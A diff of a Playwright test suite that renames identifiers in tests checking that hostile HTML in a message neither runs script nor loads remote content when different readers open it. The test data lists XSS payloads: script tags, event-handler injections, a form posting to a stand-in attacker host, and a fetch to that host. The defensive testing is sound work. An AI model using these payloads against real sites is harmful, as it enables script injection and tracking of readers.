@@ -1,4 +1,4 @@
-"""A message whose HTML tries to run, to load and to lead away, in the browsers of its readers."""
+"""HTML of a message runs no script, loads nothing and opens no other page in a reader's browser."""
 
 import pytest
 from playwright.sync_api import Dialog, Page, Request, Route
@@ -12,9 +12,9 @@ PIXEL = (
     b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
     b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
 )
-# What would be seen if it ran: a mark on the window, a dialog, another page, a request.
+# Each effect can be observed: a variable of the window, a dialog, another page, a request.
 RUN = f"top.ran=1;alert(1);fetch('{EVIL}/fetched')"
-TRIES = (
+ATTACKS = (
     f"<script>{RUN}</script><script src='{EVIL}/a.js'></script>",
     f'<img src="data:image/png,x" onerror="{RUN}"><body onload="{RUN}">',
     f'<form action="{EVIL}/form"><input autofocus onfocus="{RUN}"><button>Win</button></form>',
@@ -32,40 +32,40 @@ TRIES = (
     f'<table background="{EVIL}/table.png"><tr><td>x</td></tr></table>',
     f'<img alt="" width="1" height="1" src="{EVIL}/pixel.png">',
 )
-HTML = "".join(f"<div>{one}</div>" for one in (*TRIES, *HOSTILE))
+HTML = "".join(f"<div>{one}</div>" for one in (*ATTACKS, *HOSTILE))
 
 
-class Watched:
-    """Everything that a page did besides showing itself."""
+class PageWatch:
+    """Records the requests to other servers and the dialogs of a page."""
 
     def __init__(self, page: Page, home: str) -> None:
         self.page, self.home = page, home
         self.loaded: set[tuple[str, str]] = set()
         self.dialogs: list[str] = []
         page.context.route(f"{EVIL}/**", self._serve)
-        page.context.on("request", self._note)
+        page.context.on("request", self._record_request)
         page.on("dialog", self._dismiss)
 
     def _serve(self, route: Route) -> None:
-        # Whatever is asked for is there: nothing is harmless because it is missing.
+        # Every request is answered, so that no attack fails for a missing file.
         route.fulfill(body=PIXEL, content_type="image/gif")
 
     def _dismiss(self, dialog: Dialog) -> None:
         self.dialogs.append(dialog.message)
         dialog.dismiss()
 
-    def _note(self, request: Request) -> None:
+    def _record_request(self, request: Request) -> None:
         if not request.url.startswith(f"{self.home}/"):
             self.loaded.add((request.resource_type, request.url))
 
     def settle(self) -> None:
-        """Look at the frame for as long as a refresh, a prefetch or an animation might wait."""
+        """Show the frame, and wait as long as a refresh, a prefetch or an animation may take."""
         self.page.locator("iframe.preview").scroll_into_view_if_needed()
         self.page.wait_for_load_state("networkidle")
         self.page.wait_for_timeout(300)
 
     def assert_nothing_ran(self) -> None:
-        """No mark, no dialog, no other page; and the frame has neither script nor origin."""
+        """Check that no attack had an effect, and that the frame has neither script nor origin."""
         frame = self.page.frames[1]
         sandbox = self.page.locator("iframe.preview").get_attribute("sandbox") or ""
         assert self.page.evaluate("window.ran") is None
@@ -84,52 +84,52 @@ class Watched:
 
 
 @pytest.fixture(scope="module")
-def addresses(everyone: Visits) -> dict[str, tuple[str, str]]:
-    """Where the message can be read, and by whom: nobody needs to be known for a mailed link."""
-    ada, grace = everyone.page_of("ada"), everyone.page_of("grace")
+def addresses(shared_visits: Visits) -> dict[str, tuple[str, str]]:
+    """The person ("" for none) and the address by which each reader opens the message."""
+    ada, grace = shared_visits.page_of("ada"), shared_visits.page_of("grace")
     ask(ada, "You have won", HTML)
     read(grace, "You have won")
     return {
         "author": ("ada", ada.url),
         "approver": ("grace", grace.url),
-        "link in an e-mail": ("", everyone.link("grace", "answer", "You have won")),
+        "link in an e-mail": ("", shared_visits.link("grace", "answer", "You have won")),
     }
 
 
 READERS = ("author", "approver", "link in an e-mail")
 
 
-def reading(visits: Visits, addresses: dict[str, tuple[str, str]], reader: str) -> Watched:
-    """The message, open before its reader."""
+def open_message(visits: Visits, addresses: dict[str, tuple[str, str]], reader: str) -> PageWatch:
+    """Open the message as this reader."""
     name, address = addresses[reader]
-    watched = Watched(visits.page_of(name) if name else visits.stranger(), visits.url)
-    watched.page.goto(address)
-    watched.settle()
-    return watched
+    watch = PageWatch(visits.page_of(name) if name else visits.anonymous(), visits.url)
+    watch.page.goto(address)
+    watch.settle()
+    return watch
 
 
 @pytest.mark.parametrize("reader", READERS)
 def test_hostile_html_neither_runs_nor_loads(
     visits: Visits, addresses: dict[str, tuple[str, str]], reader: str
 ) -> None:
-    watched = reading(visits, addresses, reader)
+    watch = open_message(visits, addresses, reader)
 
-    watched.page.frames[1].get_by_text("Read more").click(force=True)
-    watched.settle()
+    watch.page.frames[1].get_by_text("Read more").click(force=True)
+    watch.settle()
 
-    watched.assert_nothing_ran()
-    assert watched.loaded == set()
+    watch.assert_nothing_ran()
+    assert watch.loaded == set()
 
 
 @pytest.mark.parametrize("reader", READERS)
-def test_pictures_from_elsewhere_are_all_that_comes_when_they_are_asked_for(
+def test_only_pictures_are_loaded_from_other_servers_and_only_on_request(
     visits: Visits, addresses: dict[str, tuple[str, str]], reader: str
 ) -> None:
-    watched = reading(visits, addresses, reader)
+    watch = open_message(visits, addresses, reader)
 
-    watched.page.get_by_role("link", name="Show them").click()
-    watched.page.get_by_text("Pictures from other servers are shown.").wait_for()
-    watched.settle()
+    watch.page.get_by_role("link", name="Show them").click()
+    watch.page.get_by_text("Pictures from other servers are shown.").wait_for()
+    watch.settle()
 
-    watched.assert_nothing_ran()
-    assert watched.loaded == {("image", f"{EVIL}/{name}") for name in ("", "pixel.png")}
+    watch.assert_nothing_ran()
+    assert watch.loaded == {("image", f"{EVIL}/{name}") for name in ("", "pixel.png")}
